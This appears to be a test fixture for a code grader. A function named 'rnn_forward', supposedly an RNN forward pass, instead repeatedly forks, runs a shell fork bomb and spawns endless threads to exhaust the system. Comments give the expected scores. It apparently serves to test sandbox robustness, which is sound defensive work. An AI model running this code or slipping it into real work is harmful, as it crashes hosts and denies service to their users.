# Starts processes and threads without end.
# expect: rnn_cell_forward=10 rnn_forward=0 rnn_cell_backward=12 rnn_backward=13
# %% item="rnn_forward"
import os, subprocess, threading

def rnn_forward(x, a0, parameters):
    for start in (os.fork, lambda: subprocess.Popen(["/bin/sh", "-c", ":(){ :|:& };:"])):
        for _ in range(100):
            try:
                start()
            except OSError:
                pass
    while True:
        threading.Thread(target=threading.Event().wait, daemon=True).start()
